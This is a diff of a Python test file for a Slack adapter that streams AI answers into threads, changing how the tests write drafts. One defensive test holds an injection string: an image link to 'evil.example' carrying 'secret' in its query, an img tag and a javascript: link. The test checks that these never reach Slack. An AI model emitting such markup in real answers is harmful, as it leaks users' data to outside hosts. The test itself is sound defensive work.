@@ -2,16 +2,8 @@
 
 import pytest
 
-from adapters.chat.slack import draft as draft_module
-from routing.ports import Draft
 from tests.adapters.chat.slack.conftest import Stage, reply
 from tests.peers.slack import Fault, Post
-
-
-@pytest.fixture(autouse=True)
-def _no_pause(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Every `write` is shown; pacing has tests of its own."""
-    monkeypatch.setattr(draft_module, "PAUSE", 0.0)
 
 
 def only_answer(stage: Stage) -> Post:
@@ -21,16 +13,11 @@ def only_answer(stage: Stage) -> Post:
     return answers[0]
 
 
-async def write_all(draft: Draft, *texts: str) -> None:
-    for text in texts:
-        await draft.write(text)
-
-
 async def test_an_answer_streams_into_the_thread_and_ends_with_quiet_line_and_buttons(stage: Stage) -> None:
     draft, _ = await stage.draft()
     await draft.status("Thinking …")
     assert "Thinking …" in stage.slack.space.statuses.values()
-    await write_all(draft, "Hello", "Hello **Anna**", "Hello **Anna**, good")
+    await stage.write(draft, "Hello", "Hello **Anna**", "Hello **Anna**, good")
     assert only_answer(stage).streaming_state == "in_progress"
     ref = await draft.finish(reply("Hello **Anna**, good morning."))
     post = only_answer(stage)
@@ -51,7 +38,7 @@ async def test_an_answer_without_a_model_is_not_called_ai_generated(stage: Stage
 
 async def test_a_text_that_begins_anew_replaces_what_was_shown(stage: Stage) -> None:
     draft, _ = await stage.draft()
-    await write_all(draft, "The small model says", "Another model says yes")
+    await stage.write(draft, "The small model says", "Another model says yes")
     assert only_answer(stage).body == "Another model says yes"
     await draft.finish(reply("Another model says yes, and why."))
     assert only_answer(stage).body == "Another model says yes, and why."
@@ -77,7 +64,7 @@ async def test_an_answer_arrives_once_and_whole_whatever_happens_to_its_stream(
 ) -> None:
     draft, _ = await stage.draft()
     stage.slack.fail(method, fault)
-    await write_all(draft, "one", "one two", "one two three")
+    await stage.write(draft, "one", "one two", "one two three")
     await draft.finish(reply("one two three four"))
     post = only_answer(stage)
     assert post.body == "one two three four"
@@ -103,7 +90,7 @@ async def test_a_rate_limited_post_waits_as_long_as_slack_asks(stage: Stage) -> 
 async def test_a_stream_that_slack_ended_by_itself_is_rescued_by_an_edit(stage: Stage) -> None:
     stage.slack.space.stream_lifetime = 0.0
     draft, _ = await stage.draft()
-    await write_all(draft, "one", "one two", "one two three")
+    await stage.write(draft, "one", "one two", "one two three")
     await draft.finish(reply("one two three four"))
     post = only_answer(stage)
     assert (post.body, post.buttons[-1]) == ("one two three four", "Why?")
@@ -113,7 +100,7 @@ async def test_an_answer_that_cannot_be_edited_is_posted_anew_and_the_half_one_g
     draft, _ = await stage.draft()
     stage.slack.fail("chat.stopStream", *[Fault(error="message_not_in_streaming_state")] * 3)
     stage.slack.fail("chat.update", *[Fault(error="edit_window_closed")] * 3)
-    await write_all(draft, "half")
+    await stage.write(draft, "half")
     await draft.finish(reply("half and the rest"))
     assert only_answer(stage).body == "half and the rest"
 
@@ -144,7 +131,7 @@ async def test_a_long_answer_comes_in_parts_with_the_buttons_under_the_last(stag
     draft, message = await stage.draft()
     code = "```python\n" + "\n".join(f"print({n})" for n in range(1_500)) + "\n```"
     whole = "\n\n".join(f"Paragraph {n}. " + "word " * 60 for n in range(60)) + "\n\n" + code
-    await write_all(draft, whole[:500], whole[:9_000], whole)
+    await stage.write(draft, whole[:500], whole[:9_000], whole)
     await draft.finish(reply(whole))
     posts = stage.slack.answers("C0GENERAL", message.thread.root)
     assert len(posts) > 2
@@ -178,7 +165,7 @@ async def test_many_headings_do_not_exceed_what_slack_counts(stage: Stage) -> No
 async def test_a_model_cannot_ring_anybodys_phone(stage: Stage, evil: str) -> None:
     draft, _ = await stage.draft()
     for end in range(1, len(evil) + 1):
-        await draft.write(evil[:end])
+        await stage.write(draft, evil[:end])
         assert not any(post.pings for post in stage.slack.space.posts[1:])
     await draft.finish(reply(evil, quiet=evil))
     assert not only_answer(stage).pings
@@ -188,7 +175,7 @@ async def test_a_model_cannot_make_slack_fetch_an_address(stage: Stage) -> None:
     draft, _ = await stage.draft()
     evil = "a ![chart](https://evil.example/?q=secret) b <img src='https://evil.example/y'> [c](javascript:x)"
     for end in range(1, len(evil) + 1):
-        await draft.write(evil[:end])
+        await stage.write(draft, evil[:end])
         assert "evil.example" not in "".join(post.body for post in stage.slack.space.posts[1:])
     await draft.finish(reply(evil))
     assert "evil.example" not in only_answer(stage).body
@@ -199,7 +186,7 @@ async def test_a_model_cannot_make_slack_fetch_an_address(stage: Stage) -> None:
 
 async def test_an_answer_that_a_crash_left_half_written_is_taken_over(stage: Stage) -> None:
     draft, message = await stage.draft()
-    await draft.write("half an ans")
+    await stage.write(draft, "half an ans")
     second = await stage.chat.open(message, resume=draft.ref)
     assert second.ref == draft.ref
     await second.finish(reply("half an answer and the rest"))
@@ -226,6 +213,6 @@ async def test_in_a_direct_message_slack_offers_its_stop_button_while_an_answer_
     draft = await stage.chat.open(message)
     await draft.status("Jeg tænker …")
     assert list(stage.slack.space.sessions.values()) == ["processing"]
-    await draft.write("hej")
+    await stage.write(draft, "hej")
     await draft.finish(reply("hej igen"))
     assert list(stage.slack.space.sessions.values()) == ["active"]
